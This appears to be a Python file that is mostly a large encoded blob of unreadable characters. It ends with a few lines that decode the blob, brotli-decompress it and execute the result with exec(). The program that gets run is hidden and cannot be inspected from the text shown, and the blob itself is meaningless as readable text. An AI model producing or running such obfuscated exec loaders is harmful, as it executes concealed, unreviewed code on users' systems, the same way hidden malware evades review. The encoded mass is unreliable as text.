ǤAxb\BV2ٷeHjE߻c5%oǜ(i('ν\(S8s]Zr R6JD%Gv%N
՚ΜFO&`f!hvEgrO`5Im`%W{pAlG3Ȋ-}ǑU>knv&;vLXDXI~,(̠XϨ)'GXl;x
\:lwMor֪BQFܑӝ́ȅ=x$_ #щd]dz{"ua2Ƿ`xг3_EOeYEǮ!}6xܶPrgkt^&JErmN0$'*Sí0K9P͓braَG74_|sղ"eЈv|6̚	]dΑE\XOWC]H.zr5aMh06;WI|g	K@hYcKa%Bt{W^̌IQ&^k$eY %Ko+&t4hFBI[1AmsyUuB3ơInuzS06CÍmGl.E=="ʊz,}QYiMWcݳ]^	оsQNzJ/s8}N^Ij2XABO5l[4ڐ$JrN߷ˮ%u@0gc(DVQ%syE/u-'_|H̻!
.R~)}^BGĈhaQo3wxw;yTP:\_Ӓ+@Eˇ
oĈ	hډOs'xRR(.	}}dd!BZX&mݰxFTmd6GZȆ{<km$oCGՔ+ɒ:@,lԑb*tf;`Еy'ڈ[2aOWXb9ɤÚBH6~h2j_KMe)fÊq!$Wk͎D]D`״Mʊ00p[2lu_@8Լ@È,t=յQӫFI-xQ?Mdī5	iɊI[)ӛO_"B37Τ+vHP5#]qL}-!j7@uM֯%k}޽[Zs]Os
logj
^7ЉJs}9'͎1YjYKُ2~?
{<:/`յncL7/TԸIVX_#IX}3p9~AU%xyvAhpsl!f%c#wLRofĸdȈ3+oÌpߓ9@0xd9XG~~A!r"%Ɇ`
X9OF[=![}/Y	N.*wQ͝-s¡Ql%.$:hl?!!26θ,Rr9)Sʨ4ׅKrٞܨ+y9a8uzxY7GS@"9w#ϟ#/d+u)*яA܌Akޥ
b-KD3wMTi, ?P	
pw]d@v/@	8wι:АVޓ^/R(رu+4@d))G1:?
T,JCq߂NϻȦj/sb!nЄ90[F!
bJ~ߣ
Oܣ@C4%9nr"><yWeԐ1\`Rk,bAJUSt[sgG1OYhŦ/hgEjX7{ۺrg9FB[g8?X*$)|Ô(G@6}U:6ΠȌqj8HZOO| Jژd8E<%(}sR#JARyQ͟Άia3o+حa#FJ$&#Ó;nHHݮ]:3y]ۤ?+t-XՒbH7{ʾ̆0Ph3QHÒXdYfF[-7%PV<Ƞst>cf*9HĞ&/")Ap	lA[n3~seH1T܄Ǣ6ʪ+۲ں}sg(JЋcmUHRrox'rֻْ6Qlz?S9&)H MVђY4ݤe"C7YW@uUP0e|3U[fĮTkS+r*Eko?(Q**íW%DkD;Xtŏα*Ndxҡ#Ue+O-̞߂$g=^mySpEJj©c uϺ*$A4~NAltaB(ț_>hݗ[`Ŋo3Pض`U*-40Uu<O5X>̯[Ƚnhs5GCeF\K
)Ȕ_UM.
ڕYڡuS)R=,%b=WTYN^RqU.ߕm.>E4ݖ=6YpRe0ɰ&-9SgrY_K͝^D|eWOn7.r{r-+d?ҀȤrLvD5LrɃحpFɵr!3M5Ο͈$	a\3]uV`Ń]=c$߷m$Z^#fqB7&XΒmjp){o@f}Y(OG
I5[Sl֊9Syثe63מ#?M LUeU#zI43߫MBEok3Cͣ(Ô9k?VWm:Åb-v;ۙK7.еҒÌzQ&4w1N} [ +0v7\0%P EQg=+b؁nʯ<[-n:3ճ}qԤ\3Qޡ5Vm&׷8aߢ_˙'oh`Q6\pcڶ( vqOY[|un`Ca4LimYzH¼?g`t^,;g׹G]>yFv߶GDk,fgٽ
!	F"ݏ/j|9O[4}16%blαOgW:6,Jz:KӮ<MC5
/ڢ0ƘR[`eQlKþErQ[BȄHٛw	B{C#.p0ͩ5+u!P@kb)1-\m<h?2	ϫ-LW3k:ȗއ5֤lƆ;wi&[4؁Ujcv:Y&Pvb"LsGo3_ʵ[;RΩu#0Z}8`2GkVa+gJi:=ua`6!¿]Xh\zxQqK%hwBW6Ab@׏A52Au[a6uzs&}m-9z7~Ǚž@vBOP2ʏV5lxӺݟ}@Q6$NqVfW۪bUՆ6,=XrN~y-Mq+(|Y(τrʗwH}V(&^lˎuI'
7ȋj-$`lv},$	BVeJٛwjs޳͌Lx<ݨ]3ht.>O7w.f?AҴt
!a},X̎td!VSRVN%߸cG9cYi#ik<IcmѳԆrgڈLaH}Eg6iwavnʪ"Mԥ؀T߶їOiX2۸[q5Մ6W˥ߙng!3C~ۼϼr
d]+-j1#ԝtltӹ+݈=WF3e_uгN }?i9\c£&{ʇL]KzupUڈ0U!ݯ[Ԩ,҃uHb	A,?q*TȘ
v҃}h]f4W[w_=;s0ǋAsUR8Bq%D(8|G*s]Lx 	.*nN$ɢ¡1@Ǝ_k
'^F(kr /-ԅY-;(VdHp".ĊMbeyd@x"v(y
yr}8WTu*8kנEZ/O"fXh>}qw_ջFPVv=9
kC+ZMQ՞`j=j@+F W=	;V~[ <oV3R
VPVRx? ދBS3B$ʳ+upЕ)~% G1F=VV!:RHXmOT
c%0u^?.ܱ~+[~˪
/n2[͆[ы	mqE_3jұu/_FŸܤQڲvܡ{F%S*Рj<(2ǝ1K	I*/"^+M?ӳŪ؇&e'k:-X@4hFN_8l{(X?kˌiI4!`!c(6վ"oyǣOHM:n܀fyY&'`ǍE=*uxTIF4D^\dsOw#W>ѪI,0)Oiobtѓ1WHd=59Hr^˙VhʩX>m`:diPGZc/fDʟH!aڇ<l˹9*;9Ɏ$vJ3f*"O]q' ÑnYkUbF2;fZ\ZZ`4vI]O3)xɸ#Xn}17}[RQMZr~ɷϲv1Ȓ_It|v=Ƣ4"p,ʥ7wϊo֕H>ޓ_˦-	YFurQ[qfʤJ.Eyl@fkujɋbBo4%uڢUޑ+s{uٽ#ڝ,._o	A5pʹQW)]rr?OoA;cr	*%bK5p@@/Sz~-w4XTcƀq5Y.kp\rGUǉfĽ->\.'lHx4"EU'ޝ
6JbXȣ͟f	p([ʼԾ^ܯP`*UgLx5̘C>U~#RA*'VfO;Ң<<ϼJփxesµ>*yCm+x*JS
Q;ncwh=6_6&	d)i!|s>"eZBl1&%Ȝާ+ʐv|teF=c'׆HEO+`'Sd~,JnloSaaM#NN<XR$ 6`ΈgZ}I0L(gɨ2qF,>,Ja YFx
6Q;z~]&ΞًѿõՅ=2;$n @j@dtA;Pr0&AOf-8o,gbt/-O)F%%
/6ݫAM!6Xv<U}r1̶Dg7+\;"ʍm=ıag[
Hwiֵ f:sLΞ/v1ȁ=L	"x[zh@O/ʑ{]<K" ^&(5@nlF]:("m,̓jMoFo3\H)ub{>X\~6!E+.h6b3dCկmZX%t%eGtV.	|57S֋b\Ɯl{OBҬYhRρم0K) [wo=ϔ!}*",=e#3mw#ι ޾b]e
f#tӷ2="gً}J^{,?qIKO{SЧ%5\^G=*tjωkLLtij6PU)G=,زUe$9[ְI#V)'̥>f;&j,}lph!EݖOE,|{vZMSC|
7trmJbnA]7`~r}4(vH&11H:*#b;drT1߹c̲hw
wD>դsFA֓}eyظ:Lb٦mi];[Ȟ&'p\E]sX-3wCYDHH+s ։F ?"$D=dGEjto`!pց
DioDnM!y72^P!r1ӵO-_ģlNbʇR7&k[hZw]ZOTu>&7<7NC׆-:²{rӛD~fiD5/P#:3$yY-xu;aŦP.ƿ YRոgm@fr0(UsW}B̪+WP	ǀʻP[7ˬġB;ƾxZFҭ26ZuSŸP_jC"]-R>±Ѓ>Ժ̒HBԀGLW!Ҧi=OFEj޻I˾t3ʏRjk}7i~G.T&x@Pmp	hrҙ(`}ч,<XߕDY%/K<)-5׉wm#@.p5poȢ$]Ĵ@y(Yc;ݰj*(z5*i6rmePO=]cӊUMj w*}ȲО(9)(jȯ: n%9r݄W0N;x?9Ԥȃ7}ތwrA9yHP}fj¿Tѻ%Pޏ'W۠ٲŃ:`IaЙ+wgf@@wxe>zTtvqըT{>܁_cօSz~E.bEH{\L!\'I39Uߍ=b#j{OjfKΈiWE3gJICȼnjFH9ӵyp͋cpN&%B{̨Q{`4U]'YX	ЬPE=}5|E>ah˃d@C}_4|(#oX[k`&Ȣ}uש{.6_ v+=?0P/ܾ_mǆ.1d#A++ԂGO3.~/_үB@g_BB(ϥl%d0`Ҧ,ߗlȺU1$˰̜h&G(jB̰"cZ^ԏم&m&>el[LoR9NҺ4D#ߺ1^\Hz(<V>3EbT/7?Nwdoؕ=0h~ߝtz@זGyB%QydoT߰;b9\cq_OWP*V<#ÿe@ڌ#HUL|=!]V^5NPE:V8,a$\y:)3?6zbl'ڳ3C#(lLZ8)%5YPҜXŮNIAȠiPA/|Sp~hʃg"(SGCŹ(%\}s.%	~jk9>F>A??_1%u8>`$bՃPFV-E׮@ֲ-BWBýyӁHWշM+ώpL..էWL% ҬQ]FͱAVSB<>@vlՐ<!BÔ=*'|ϭȊ\UcvЙD6{4P,uEk-]?HÏfK~\͡Yd!ټn.Gkʵc=<^H(9׻soV/BSI2cwWd]g,^%'%+`T5A	lӂJB8n%yYJʺCG_wIyUuA-dy5pʀTݳ`4ta6.ۥV2dAz!K5	]سHJ
`YuGȅfeOL#r\ <ϗF˞(u#`5VʳsΡsnɈ.dZH^qb~+40LC'?aŔFѰNp #wLj@Bw9.%FeR1q50YKP+882YjTɫMİ=)ˤz6"¼9ϵA5ɠ4r}hU?twr V_^ev^ҧhj&JƯ$CchFϚHrVD֕Z;r"fA=9wڧWab̵MM8&=_	Iu΢!+{pm()d0TQ'fUT°S%g5HHj-˧?'9l"bȞQuC;v0El'|xʚOREM&WoңݹjOПύwǵNnW]¤}ہx	"&Cl{gO7C"b z&m(F"$/kq'jcrO|/̟%tPmW7"ɑ0!dAe*|auLĠ{z(Ø,,5[Ow/mD!LqjIǗbwu6EH] Vǥmؔ
(6` n),[
9^çu՞uT\<b4 "cXӡ$'ْ§
ӮŘaG}0Sx2&G~4Ж.qַ=Oxg"lP)~6kMfGwxXN22eǉ|"F1fAyS@m`7VDRqT%dIp&=r:pQ :݉¤%<҂G-d(ն|(]PoR%tQq:TX޾1t h<g,Um`eQ:=J9.63*-^˾	>41XYc5Lgo+4J'Jgg7b^dYP5:<iPbezG;Sw#ʞ"GʘLT)P(7؁4}M 91ޖ5tzBQgnҚW)mGFŲI$z:2b݋F_Z
(t0X8&<{GP.{A%[ 9k4o)3]
1cnΌŲ!ԯ&iyg@hJYg!MfģV)cuYȢu&&#@ltۘ S9ovx#l.ӵ0ΣË	0RؓƧa<^^j0"ȧݒ|nmT)(] (^ĥ.AD4$'Sj7Χs_҆lڸЁ}nZ,݅93EVDaƟm1V]1ٶU^Ir$xg$&nrM]e~=-bS	3(nt8l,$˷RD=gB7rsAg4Ɏ,QV# |Ŭw,|̺tf%@;ÇO0Eu2A,KJ%Í4Z[:WGƣ=G3jQ)Ll
Q@'د6UůH7 a$FhЍ<-zX"WjmxAFN?ci)Ì,^;pIB0¼<!%_('sPj0m8SRHc&DD)P{?Bñw6}heۃkǻu5}GqFa<4]Ϲn`L[Ćӎ X"Eeu(EƹoÅQѯ1MM7{`HÐ;Bl*`҃!{G'=6Ԯn6+vاu Ae<!ʇ%+0(M+ėxr$lB/ҚIa/20g&KЋ@b<,i\Wt1xB%$Qh*jQ;y4xRwaf,	m:@sv{N^>'t &lpjӋN91Fkfߩ4"+Z'A7xW(oLdCӎYhy
#܉}	8rYcO1d-!ݖyљ͆/ލ	~tnAޟX{mϢΨ)>mFrd{^@ҷ<5!:`he7(Q֑/VC>V/#{eM˫he6Tݞķzi߃ -ڱz_;oW>%w; ܐPҎ]	aяzx~A>٩m,|/Z
 Z\;P΍vv!N&J{*`=7O?j8րN]}ܕj){sYE8FE)%2@gVHF8n"QBDΧqK(
&mժT&U!]4Z`cQ?+:=d(t?
F%!6wQ`#ΦݬG%&-tB_9%4I/M/v:ib+2dqފ8y,g\^y6-;Lm[eNQ~nRpOnVn%:&gM[VHesZ0֚pwWy:/Ӄ{߼2L\Ɓ]"b.~CKnG"!*xʇXueO|Z\_=Ş{,fҜ0vzbư	G	Մ׊PVЬ6/rElk˗I"uEג	ICuXX=ȑz]1W*վ+`Oou5F=u~	#!(|2-ЀfbםؘDI^`UݑY*ķgwq{Ξ^bj](hUf^ǣ>l3G
&d54$06YkHyap`59"eo"d$HIDJF4c!p3Ipr}b. s!AޝhgYg[Q̨2R%Gc1r2(1Ʊv4!9SK_lS&kr	eJUٌU?ecHPӗ!=ӌє4*uGGsp;̹|gԮ;"ց4_>6B~y,0ߩL.ÿ]1Ӟ.QvHAДކܝS٬͑AVWÎXS@w.ֵϢ:usNPRߍbWS{ci=3#O-KG7,ҒG)h7pSڝWyGQJw",jף_uq.]T\9i>_׉A׹Ǻp~VA8k;e<80|]BՇ~d̠]uy|tX3;ݭEi#bD.|Fo۸߳.A'Hd^ħ0w= kF_0XyxćLMf&xxITvR~n˯sWCͰNGȘtZO_#ђP n˽w
T,^ֳ5ƶۘLnq(&~DS:wo}+(\JqĀjr@>	+
w|{bQʱE!AFn1`Ȋ=N¤ϊ7jÕ%Vb	ze+̡ހ\eu
GH},hl*GID?1votLdt{`$ 7)4cr!z'E-UjDB:Nj)9=!)ωӱŋ!%a{'h͂XCA)߬>>Etm'?6d_I\;*m%buvl*o֯}uU[_UX؀&v6b*&Whm^wgpP(&[ uatkr5/޽ƱM5߅H_>1[)ƈz׿]Tz#3@аcugӣ:fOxDbħZuX^RgXj\ج$.\ MƦ*Ġ6t(֨P40WU#9O;
6Bs}<!(gWvؓ_d"!ɞNp|͇0r#G.i{[]HH=؉
߁P: 9]=SMy6+sO*׮:h;<\lׇ&Nz|UͿc&WC@ڜB~9"iߣ/+8Xn8(Z~b	@u+i\ȔLWV5̀!pq**
dh)[dw?*)8{x!ϤE3
(.oBx'pg9;!"6 Aױ0ʙ}_'f66U6:\|i+N:o*0݅cxP]K )`PۺS08sT1ɂ'ϊŏӵRdQyIf/$uH{=߽zb7^_:XFz,;/?WH8˥҃N'cC~SR{<axjGc.άa{cϱ_sܵ9Yh_qI
|$kTC'iz\ѳ{'#T3͝H	F">xZGsT!^mq`aP(Rx{.?)NBRu.@By8B?\HKd$0qGu-]]{ahh ݱ|hXpйԨ^7XKlĘ(Ցh1D7*$G_u5Bz]oĽ3SOP,Dw_aKA7~<IjSCYwgXD%h{BYڮVpE6yɇ1Qf!ؠb؎~J[)5o
qҔjA&Fu8܁:ewƻS
+= 	|̈́a^f,xDh^n<2)n<L*NW[ШiPlw~٠+-.Yq՛SGŦ+(Wˏ6p7%r^ϸD6"2]Й5,$S0CݗtF>(߁K,r]- ȗ3֜9O}#׃"d~#jUgͯJ:ֵ5ȝhs"RV;~j6$a@0Zg<?	Ϯ=iA!bѿgY>ܵX̘˻ź]?ɐ<|\0X%+[-&Hܚ	Gj]178Gt%ɾE:A=`cRىjd`jf|!805wL`@t9| "v-'=gQ:<n߷Ӳ8%Å})H5R̈́8[fPδZn3"m(ߖM(y2BΜޏ!~mCF-wNغ(%ΫRӞ:f&Ovv{Ӂb@`G5YxfH0L	u^>k?#]rC_V>FC_˰k6Z6YUnt߇
|buӲMb.]^dRf]GF@ٴMlE=V9UYv=">
FrVڙ@̕:s5<Qe@1megd2BS^-wwgL{T)+R
ְkݒU	bzGpȃ7X oM{5n2yH2K8XQv(`__eE7CȀPtXoaoN4?7CWv;*;ELh =Еڪ^i`kn8B),=ƚ6ZCb)3,Oi(!SD)ҙ6UH<HoFxN\!ßDU	ӭϰ@P՚XK,ˢAD|17z֩׷9pַ,Lڰf$kĩT$-x-ChOV^+êYgC6KTR?M|WѱG{1ͪS	ٗtɳɑYgas*7FYW\
FʲK``MV}rQ3~ɓe\Jt%(#P$1;Zxqm W>`ZS5N]2݁(efۜG{aYIxWzENe[o}hCۗ"a8Q:Gw5ů0D4XmJ]F";K69#[}b<($&myH¼mڑg,اł}yB-'ڄA<ɣdcu4@ưWwzGª/tSPQ@S?=.KوyiSwO,K@")0FX:yЅ2
f(ܳTь˔Rׁ3uJۛjL3B`^;\+}[/4R-4VtѦV@8ߣ	<#5|E@48Hv]VG&ʋׄf%lmeaï(FA!Gb*TiI:Mt|/Q7)x	<WyEbt-HيqCҫдjkݑX"9	,Df'\ԕMCA@>df/̥Իx-4.|'|qj\sY&FlUYo{)f/j.gԐmp*x1GyJYɧ]rcX"}6οwWnV!mֳj9|<\=߂Ƚ/ՑѤ҅bĜ}TtX7dUloPri¸pG6ͣkX;
U;bJGa|x|%4Bp"qd>l&.nĢI޾HMχxkR(uS}tYjg0'X}Yei:BGQyyȃflSi+<=9&ޡU۷zE~qoā#RgIPł(ݮݑ1׹
xӗLsihS8{9aIsmիIݕ5QÒQ;bJ*Mhj]c*ޗ_rJLܟ/DONDйٴaUH[ʶKsa8ܴo=ɘгG{c(͒3ƊE2$cBːJ͔XL,jJns>74C|mK9>pԘ:DuXic%mۉ|_QTFU653
ҬRP<Bfѯ8؟GÎĖ)!+Ere=j3/t~$t#uVq)StTݛVXT_VpdԌwrbmE*F =u/iȔw,xp&6mp[V-'yӓRs?b́|K-՘i8nhu$YYPl,zN9^
YR#4Sw^ԺE6!7Ҝ_
A˰HY3]ÅZ)բ/-+~S԰1E|ϐ;3T#"Ӹ}S܂R/TƂ>T"X~ccY~Թrǁt>]<9E;ΘCgjb51ڢm^{x]I8r{7ݘ:G6sقX@[đ֍y{2hZݨШ@qAgl0OYlq&V"3͎lSY/ޔh}-pYEW:~F|lDQJ9s]f<$6AՎ.oQ?@Yc^0}vƔ<V٢ęE/'FF_cy",LPP<Rj\xA{9gδ5Փ8H1OC Jֻ_D+B'D,ݤ̩޽E4cgy'j@V1yB
9h_4-.o/[q)daSf%	`
*y(7*Akwʎ0aIOPE4iC>9F}AbwAC@X[:L&`|:_+}@/xefcic*`r\BsKإZ,Ae>3JmVQ;=KcJCl+q7ƿ>'oy/n<"wR%v|Z
!Q>1`41>H/>yF:y9*x:Aط_ثlX<iٽ`r3P&abԑ^0oG#{|Άa9k|=}7Pʁv{ݐUٻgKۥrrtݹar|Շ@E8_1He=gU#ؤR;G`|K\MµA$AqӁWmIί)zöi#ɒ~׉Y	si5L7W=,hgkW?Gك5)8\f<>{LkTdKz*Ќ#i'wo `Ҟϣo ?T$'qhx
~6^+2%^JuHZ}i+%?Ɏr@%FHNN-Z˩\=<H4!YE|(ACH''':
 o=ord(c)
 for x in([o-1-(o>13)],[o-128,126])[o>127]:n+=x*b;a,b=b,126*b+1920*a
s=brotli.decompress(n.to_bytes(25258)).decode()
import linecache
linecache.cache['<string>']=0,None,s.splitlines(1),0
exec(s)
